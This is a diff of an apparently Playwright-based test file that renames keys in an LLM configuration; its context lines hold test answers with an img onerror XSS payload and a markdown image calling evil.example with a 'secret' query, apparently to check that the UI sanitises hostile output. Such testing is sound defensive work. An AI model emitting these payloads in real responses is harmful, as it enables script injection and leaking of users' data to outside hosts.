@@ -10,7 +10,7 @@ import pytest
 
 expect = pytest.importorskip("playwright.sync_api").expect
 
-LLM = json.dumps({"mind": "llm", "route_by": "small", "grade_by": "small", "expand_when": "never", "max_hops": 1})
+LLM = json.dumps({"mode": "llm", "route_by": "local", "grade_by": "local", "expand_when": "never", "max_hops": 1})
 SAID = [
     'The beacon is <img src=x onerror="window.stolen=7"> painted red [1].',
     "The beacon is painted ![red](https://evil.example/p?q=secret) red [1].",
